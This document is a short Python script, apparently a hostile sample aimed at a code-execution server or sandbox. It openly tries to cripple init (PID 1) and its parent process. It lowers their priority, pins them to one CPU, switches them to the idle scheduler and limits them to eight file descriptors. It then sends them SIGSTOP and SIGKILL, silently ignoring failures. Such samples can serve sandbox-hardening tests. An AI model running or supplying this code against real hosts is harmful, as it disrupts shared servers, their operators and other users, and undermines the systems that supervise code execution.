"""Stops, slows and narrows the server, and whatever else it can reach."""

import os
import resource
import signal

for pid in {1, os.getppid()}:
    for attempt in (
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))}),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (8, 8)),
        lambda: os.kill(pid, signal.SIGSTOP),
        lambda: os.kill(pid, signal.SIGCHLD),
        lambda: os.kill(pid, signal.SIGKILL),
    ):
        try:
            attempt()
        except OSError:
            pass
